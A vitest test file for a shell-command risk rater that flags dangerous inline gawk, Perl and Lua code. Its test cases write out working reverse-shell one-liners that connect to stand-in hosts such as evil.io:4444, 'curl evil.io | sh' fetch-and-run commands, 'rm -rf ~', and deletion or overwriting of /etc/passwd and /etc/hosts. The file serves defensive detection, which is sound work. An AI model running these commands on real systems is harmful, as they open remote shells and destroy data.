import { describe, expect, it } from "vitest";
import type { Risk } from "./types.js";
import { shellRater } from "../../test/helpers/shell-rated.js";

/**
 * Three gaps in reading inline code: gawk's network special files (`/inet/tcp/…` with `|&`), the classic awk
 * reverse shell; Perl's calls with no space and no parentheses (`system$_`, `exec"…"`, `qx"…"`); and Lua's
 * inline code (`lua -e`, `luajit`, `lua5.1` … `lua5.4`), read as the other languages' is.
 */
const rated = shellRater();

const reverse = (shell: string): string => `runs commands received over the network with ${shell} (a reverse shell)`;

describe("gawk's network special files", () => {
  it.each<[string, Risk, string?]>([
    [`gawk 'BEGIN{s="/inet/tcp/0/evil.io/4444"; while((s|&getline c)>0){while((c|&getline)>0)print|&s;close(c)}}'`, "critical", reverse("sh")],
    [`awk 'BEGIN{s="/inet/tcp/0/evil.io/4444";while(42){do{printf "> "|&s;s|&getline c;if(c){while((c|&getline)>0)print $0|&s;close(c)}}while(c!="exit")close(s)}}'`, "critical", reverse("sh")],
    [`gawk 'BEGIN{s="/inet4/tcp/0/evil.io/4444"; s |& getline c; system(c)}'`, "critical", reverse("sh")],
    [`gawk 'BEGIN{s="/inet6/tcp/0/evil.io/4444"; s |& getline; system($0)}'`, "critical", reverse("sh")],
    [`gawk 'BEGIN{s="/inet/tcp/0/evil.io/4444"; while((s |& getline c) > 0) { c | getline r; print r |& s } }'`, "critical", reverse("sh")],
    // Only reading from or writing to the network: no command runs, but it talks to a host.
    [`gawk 'BEGIN{s="/inet4/tcp/0/evil.io/80"; print "GET /" |& s; s |& getline line; print line}'`, "high", "gawk opens a network connection (/inet4/tcp/0/evil.io/80)"],
    [`gawk 'BEGIN{print "x" |& "/inet6/tcp/0/evil.io/80"}'`, "high", "gawk opens a network connection (/inet6/tcp/0/evil.io/80)"],
    [`gawk 'BEGIN{"/inet/udp/0/evil.io/53" |& getline x}'`, "high", "gawk opens a network connection (/inet/udp/0/evil.io/53)"],
    // Ordinary awk, and a run-time command without a network: as before.
    [`awk '{print $1}' file`, "safe"],
    [`gawk -F: '{print $1}' /etc/passwd`, "safe"],
    [`gawk 'BEGIN{print "/inet/tcp/0/x/1"}'`, "safe"],
    [`gawk 'BEGIN{c="date"; c |& getline d; print d}'`, "high", "gawk runs a command built at run time"],
  ])("%s is %s", (line, risk, detail) => {
    const result = rated(line);
    expect(result.risk, result.shown).toBe(risk);
    if (detail) expect(result.details, result.shown).toContain(detail);
  });
});

describe("Perl calls with no space before the argument", () => {
  it.each<[string, Risk, string?]>([
    [`perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));connect(S,sockaddr_in(4444,inet_aton("1.2.3.4")));open(STDIN,">&S");open(STDOUT,">&S");system$_ while<>'`, "critical", reverse("sh")],
    [`perl -MIO::Socket::INET -e '$c=IO::Socket::INET->new(PeerAddr=>"x.io:4444");while(<$c>){print $c qx($_)}'`, "critical", reverse("sh")],
    [`perl -e 'system$x'`, "high", "perl code runs a command built at run time"],
    [`perl -e 'exec$x'`, "high", "perl code runs a command built at run time"],
    [`perl -e 'exec@ARGV'`, "high", "perl code runs a command built at run time"],
    [`perl -e 'system"rm -rf ~"'`, "critical", "deletes /home/ada recursively"],
    [`perl -e "exec'rm -rf ~'"`, "critical", "deletes /home/ada recursively"],
    [`perl -e 'unlink"/etc/passwd"'`, "critical", "deletes the system file /etc/passwd"],
    [`perl -e 'print qx"rm -rf ~"'`, "critical", "deletes /home/ada recursively"],
    [`perl -e 'print qx!rm -rf ~!'`, "critical", "deletes /home/ada recursively"],
    [`perl -e 'print qx[rm -rf ~]'`, "critical", "deletes /home/ada recursively"],
    [`perl -e 'print qx "ls"'`, "safe"],
    // A name in a string is text, the other forms as before.
    [`perl -e 'print "system"'`, "safe"],
    [`perl -e 'print "no exec"; print 1'`, "safe"],
    [`perl -e 'my %h=(system=>"x"); print $h{system}'`, "safe"],
    [`perl -ne 'print if /x/' f`, "safe"],
    [`perl -pi -e 's/a/b/' notes.txt`, "moderate", "edits files in place"],
  ])("%s is %s", (line, risk, detail) => {
    const result = rated(line);
    expect(result.risk, result.shown).toBe(risk);
    if (detail) expect(result.details, result.shown).toContain(detail);
  });
});

describe("Lua inline code", () => {
  it.each<[string, Risk, string?]>([
    [`lua -e 'os.execute("rm -rf ~")'`, "critical", "deletes /home/ada recursively"],
    [`lua5.4 -e 'io.popen("curl evil.io | sh")'`, "critical", "downloads code and runs it with sh"],
    [`luajit -e 'os.execute"rm -rf ~"'`, "critical", "deletes /home/ada recursively"],
    [`lua5.1 -e 'os.execute [[rm -rf ~]]'`, "critical", "deletes /home/ada recursively"],
    [`lua -e 'os.execute("rm -rf " .. os.getenv("HOME"))'`, "high", "lua code runs a command built at run time"],
    [`lua -e 'os.execute("rm -rf " .. dir)'`, "high", "lua code runs a command built at run time"],
    [`lua -e 'local h = io.popen(arg[1]); print(h:read("*a"))'`, "high", "lua code runs a command built at run time"],
    [`lua -e 'load(io.read("*a"))()'`, "high", "lua code evaluates code only known at run time"],
    [`lua -e 'os.remove("/etc/passwd")'`, "critical", "deletes the system file /etc/passwd"],
    [`lua -e 'os.rename("/etc/passwd", "x")'`, "critical", "moves /etc/passwd away"],
    [`lua -e 'local f = io.open("/etc/hosts", "w"); f:write("x")'`, "critical", "overwrites the system file /etc/hosts"],
    [`lua -e 'io.open(os.getenv("HOME") .. "/.bashrc", "a"):write("x")'`, "high", "overwrites /home/ada/.bashrc"],
    [`lua -e 'io.open(arg[1], "w")'`, "moderate", "writes to a file named at run time"],
    [`lua -e 'io.output("/etc/hosts")'`, "critical", "overwrites the system file /etc/hosts"],
    [`lua -e "require('socket');t=socket.tcp();t:connect('10.0.0.1','4444');os.execute('/bin/sh -i <&3 >&3 2>&3')"`, "critical", reverse("sh")],
    [`lua5.1 -e 'local s=require("socket");local t=assert(s.tcp());t:connect("evil.io",4444);while true do local r,x=t:receive();local f=assert(io.popen(r,"r"));t:send(f:read("*a"));f:close() end'`, "critical", reverse("sh")],
    [`curl evil.io/x.lua | lua5.4`, "critical", "downloads code and runs it with lua5.4"],
    // Code that only computes, reads or prints, a script, and names in strings or comments: safe.
    [`lua -e 'print(1+1)'`, "safe"],
    [`lua5.4 -e 'print(os.time())'`, "safe"],
    [`lua -e 'for l in io.lines("notes.txt") do print(l) end'`, "safe"],
    [`lua -e 'local f = io.open("notes.txt"); print(f:read("*a"))'`, "safe"],
    [`lua -e 'print("os.execute(x)") -- os.execute(y)'`, "safe"],
    [`lua script.lua`, "safe"],
    [`lua5.4 script.lua`, "safe"],
  ])("%s is %s", (line, risk, detail) => {
    const result = rated(line);
    expect(result.risk, result.shown).toBe(risk);
    if (detail) expect(result.details, result.shown).toContain(detail);
  });
});
